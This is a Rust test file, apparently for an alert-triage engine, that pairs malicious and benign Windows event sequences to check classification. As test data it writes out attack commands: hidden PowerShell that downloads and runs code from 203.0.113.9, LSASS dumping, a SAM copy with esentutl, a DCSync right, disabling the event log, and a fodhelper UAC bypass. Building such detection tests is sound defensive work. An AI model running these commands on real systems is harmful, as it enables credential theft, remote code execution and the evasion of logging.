//! One rule, two truths: of each group of families a malicious form that is called one and a harmless form that is not.

use super::*;
use crate::domain::draft::Classification;

const PERSON: &str = "CORP\\a.user";
const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";

/// The malicious half is a true positive, the other is none, and both are on the same rule.
fn twins(level: Severity, malicious: Vec<Event>, harmless: Vec<Event>) {
    let (bad, good) = (case(level, malicious), case(level, harmless));
    let (bad_draft, good_draft) = (bad.draft(), good.draft());
    assert_eq!(
        bad_draft.classification,
        Classification::TruePositive,
        "{:?} {:?}",
        bad.score(),
        named(&bad.features())
    );
    assert_ne!(
        good_draft.classification,
        Classification::TruePositive,
        "{:?} {:?}",
        good.score(),
        named(&good.features())
    );
    assert!(good_draft.malicious_probability < bad_draft.malicious_probability);
    assert!(good_draft.containment.is_empty());
}

fn access(source: &str, mask: &str, trace: &str) -> Event {
    let data = json!({"SourceProcessGUID": PROCESS, "SourceImage": source, "TargetImage": LSASS, "GrantedAccess": mask, "CallTrace": trace});
    sysmon("e", 100, 10, data)
}

#[test]
fn lsass_read_by_a_program_that_was_put_down_and_by_windows_at_start() {
    let tool = format!("{TEMP}a.exe");
    let dump = sysmon(
        "d",
        101,
        11,
        json!({"ProcessGuid": PROCESS, "Image": tool, "TargetFilename": format!("{TEMP}lsass.dmp")}),
    );
    twins(
        Severity::High,
        vec![
            access(&tool, "0x1410", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c|UNKNOWN(0000020a)"),
            dump,
            start("s", &tool, &tool, CMD, PERSON),
        ],
        vec![access("C:\\Windows\\System32\\wininit.exe", "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c")],
    );
}

#[test]
fn a_monitor_that_opens_everything_is_no_thief() {
    let monitor = format!("{TEMP}monitor.exe");
    let mut events = vec![access(&monitor, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c")];
    for number in 0..8 {
        let mut other = access(&monitor, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c");
        other.id = EventId::new(format!("o{number}"));
        other.document["winlog"]["event_data"]["TargetImage"] = json!(format!("C:\\Program Files\\P\\p{number}.exe"));
        events.push(other);
    }
    events.push(start("s", &monitor, &monitor, "C:\\Windows\\explorer.exe", PERSON));
    let draft = case(Severity::Medium, events).draft();
    assert_eq!(draft.classification, Classification::Undetermined);
    assert!(draft.malicious_probability < 0.5, "{}", draft.malicious_probability);
}

#[test]
fn code_that_net_compiled_while_it_ran_is_not_hidden() {
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9c|UNKNOWN(0000020a)";
    let asked = named(&case(Severity::Medium, vec![access(POWERSHELL, "0x1410", trace)]).features());
    assert!(asked["lsass memory read"] < 1.0 && asked.len() == 1, "{asked:?}");
    let tool = named(&case(Severity::Medium, vec![access(&format!("{TEMP}a.exe"), "0x1410", trace)]).features());
    assert!(tool["lsass read by a dump or hidden code"] > 1.0, "{tool:?}");
}

#[test]
fn an_account_database_copied_by_hand_and_a_hive_in_its_place() {
    let esentutl = "C:\\Windows\\System32\\esentutl.exe";
    let written =
        |file: &str| sysmon("e", 100, 11, json!({"ProcessGuid": PROCESS, "Image": esentutl, "TargetFilename": file}));
    twins(
        Severity::Medium,
        vec![
            written("C:\\Users\\Public\\SAM"),
            start(
                "s",
                esentutl,
                "esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\Users\\Public\\SAM",
                CMD,
                PERSON,
            ),
        ],
        vec![written("D:\\Mail\\store.edb"), start("s", esentutl, "esentutl.exe /g D:\\Mail\\store.edb", CMD, PERSON)],
    );
}

#[test]
fn directory_replication_by_a_person_and_by_a_domain_controller() {
    let asked = |account: &str| {
        let right = "Control Access {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}";
        vec![event(
            "e",
            100,
            HOST,
            ("Security", 4662),
            json!({"SubjectUserName": account, "SubjectUserSid": "S-1-5-21-1-2-3-1104", "Properties": right}),
        )]
    };
    twins(Severity::Medium, asked("a.user"), asked("DC02$"));
}

#[test]
fn a_thread_planted_by_a_script_host_and_one_within_a_browser() {
    let thread = |source: &str, target: &str| {
        let data = json!({"SourceProcessGuid": PROCESS, "SourceImage": source, "TargetProcessGuid": "{9}", "TargetImage": target});
        sysmon("e", 100, 8, data)
    };
    let talks = sysmon(
        "n",
        105,
        3,
        json!({"ProcessGuid": "{9}", "Image": "C:\\Windows\\System32\\notepad.exe", "DestinationIp": "203.0.113.9", "DestinationPort": "443", "Initiated": "true"}),
    );
    let browser = "C:\\Program Files\\Vendor\\Browser\\browser.exe";
    twins(
        Severity::Medium,
        vec![thread(POWERSHELL, "C:\\Windows\\System32\\notepad.exe"), talks],
        vec![thread("C:\\Program Files\\Vendor\\Browser\\driver.exe", browser)],
    );
}

#[test]
fn a_service_that_is_a_hidden_command_and_one_that_was_installed() {
    let installed =
        |path: &str| event("e", 100, HOST, ("System", 7045), json!({"ServiceName": "Updater", "ImagePath": path}));
    let hidden = "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -noni -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"";
    twins(
        Severity::High,
        vec![installed(hidden), start("s", CMD, hidden, "C:\\Windows\\System32\\services.exe", SYSTEM)],
        vec![installed("\"C:\\Program Files\\Vendor\\Updater.exe\" /svc")],
    );
}

#[test]
fn an_autostart_of_hidden_code_and_one_of_a_program_in_a_profile() {
    let set = |details: &str, image: &str| {
        let key = "HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OfficeSync";
        sysmon("e", 100, 13, json!({"ProcessGuid": PROCESS, "Image": image, "TargetObject": key, "Details": details}))
    };
    let own = "C:\\Users\\a.user\\AppData\\Local\\Vendor\\Current\\chat.exe";
    let talks = sysmon(
        "n",
        105,
        3,
        json!({"ProcessGuid": PROCESS, "Image": own, "DestinationIp": "203.0.113.9", "DestinationPort": "443", "Initiated": "true"}),
    );
    twins(
        Severity::Medium,
        vec![set(
            "powershell.exe -w hidden -enc $((gp HKLM:\\Software\\A).b); $x=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($y)); iex $x",
            POWERSHELL,
        )],
        vec![set(&format!("\"{own}\" --start"), own), start("s", own, own, "C:\\Windows\\explorer.exe", PERSON), talks],
    );
}

#[test]
fn a_guard_that_is_switched_off_by_hand_and_a_policy_that_is_applied() {
    let set = |image: &str, path: &str, details: &str| {
        sysmon("e", 100, 13, json!({"ProcessGuid": PROCESS, "Image": image, "TargetObject": path, "Details": details}))
    };
    let log = "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start";
    let tool = "C:\\Users\\a.user\\Downloads\\a.exe";
    twins(
        Severity::Medium,
        vec![set(tool, log, "DWORD (0x00000004)"), start("s", tool, tool, "C:\\Windows\\explorer.exe", PERSON)],
        vec![set(
            "C:\\Windows\\System32\\svchost.exe",
            "HKLM\\Software\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths\\D:\\SQL",
            "DWORD (0x00000000)",
        )],
    );
}

#[test]
fn remote_management_that_starts_hidden_code_and_one_that_asks_for_the_version() {
    let provider = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    let hidden = "powershell.exe -nop -w hidden -noni -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"";
    let talks = sysmon(
        "n",
        105,
        3,
        json!({"ProcessGuid": PROCESS, "Image": POWERSHELL, "DestinationIp": "203.0.113.9", "DestinationPort": "80", "Initiated": "true"}),
    );
    twins(
        Severity::Medium,
        vec![start("e", POWERSHELL, hidden, provider, PERSON), talks],
        vec![start("e", CMD, "cmd.exe /c ver", provider, "CORP\\inventory")],
    );
}

#[test]
fn an_elevation_by_a_hijacked_command_and_a_programs_own_file_type() {
    let set = |path: &str, details: &str| {
        sysmon(
            "e",
            100,
            13,
            json!({"ProcessGuid": PROCESS, "Image": POWERSHELL, "TargetObject": path, "Details": details}),
        )
    };
    let user = "HKU\\S-1-5-21-1-2-3-1104_Classes\\";
    let elevated = start("s", POWERSHELL, "powershell.exe -w hidden", "C:\\Windows\\System32\\fodhelper.exe", PERSON);
    twins(
        Severity::Medium,
        vec![
            set(&format!("{user}ms-settings\\shell\\open\\command\\(Default)"), "powershell.exe -w hidden -c a"),
            elevated,
        ],
        vec![set(
            &format!("{user}Vendor.Log.1\\shell\\open\\command\\(Default)"),
            "\"C:\\Users\\a.user\\Downloads\\viewer.exe\" \"%1\"",
        )],
    );
}

#[test]
fn a_member_that_is_added_to_administrators_is_asked_about() {
    let added = event(
        "e",
        100,
        HOST,
        ("Security", 4732),
        json!({"TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544", "SubjectUserName": "adm"}),
    );
    let draft = case(Severity::Medium, vec![added]).draft();
    assert_eq!(draft.classification, Classification::Undetermined);
    assert!(draft.human_question.is_some_and(|ask| !ask.options.is_empty()));
}

#[test]
fn a_developers_installer_is_no_threat() {
    let command = "powershell.exe -c \"iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example/install.ps1'))\"";
    let talks = sysmon(
        "n",
        105,
        3,
        json!({"ProcessGuid": PROCESS, "Image": POWERSHELL, "DestinationIp": "203.0.113.9", "DestinationPort": "443", "Initiated": "true"}),
    );
    let draft = case(Severity::High, vec![start("e", POWERSHELL, command, CMD, PERSON), talks]).draft();
    assert_eq!(draft.classification, Classification::Undetermined);
}

#[test]
fn a_recorder_that_is_a_shell_and_one_that_was_installed() {
    let used = |program: &str| {
        let path = format!(
            "HKU\\S\\Software\\ConsentStore\\microphone\\NonPackaged\\{}\\LastUsedTimeStart",
            program.replace('\\', "#")
        );
        sysmon(
            "e",
            100,
            13,
            json!({"ProcessGuid": PROCESS, "Image": "C:\\Windows\\System32\\svchost.exe", "TargetObject": path, "Details": "QWORD"}),
        )
    };
    let hidden = "powershell.exe -nop -w hidden -noni -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"";
    twins(
        Severity::Medium,
        vec![used(POWERSHELL), start("s", POWERSHELL, hidden, CMD, PERSON)],
        vec![used("C:\\Program Files\\Vendor\\meeting.exe")],
    );
}
